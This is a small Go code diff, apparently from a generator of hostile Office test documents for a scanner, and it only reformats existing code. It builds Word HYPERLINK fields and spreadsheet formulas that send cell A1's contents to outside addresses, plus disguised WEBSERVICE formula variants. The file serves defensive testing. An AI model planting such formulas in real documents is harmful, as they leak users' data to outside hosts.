@@ -127,10 +127,9 @@ func hostileOfficeNames() []recipe {
 		text(schemaImport, "schema-of-dublin-core", contentType("http://dublincore.org/schemas/xmls/qdc/2003/04/02/dc.xsd")),
 	}
 	for name, address := range hostileAddresses() {
-		list = append(list, part(officeExternal, "field-hyperlink-to-"+name, word(fieldOf(` HYPERLINK \o "a tip" "`+
-			address+`" `))))
-		list = append(list, part(officeExternal, "formula-hyperlink-to-"+name, sheet(`IF(1,HYPERLINK( `+
-			`"`+address+`"&amp;A1,"x"))`)))
+		list = append(list,
+			part(officeExternal, "field-hyperlink-to-"+name, word(fieldOf(` HYPERLINK \o "a tip" "`+address+`" `))),
+			part(officeExternal, "formula-hyperlink-to-"+name, sheet(`IF(1,HYPERLINK( "`+address+`"&amp;A1,"x"))`)))
 	}
 	for name, formula := range map[string]string{
 		"prefix-twice": `_xlfn._xlfn.WEBSERVICE("x")`, "prefix-of-users": `_xludf.WEBSERVICE("x")`,
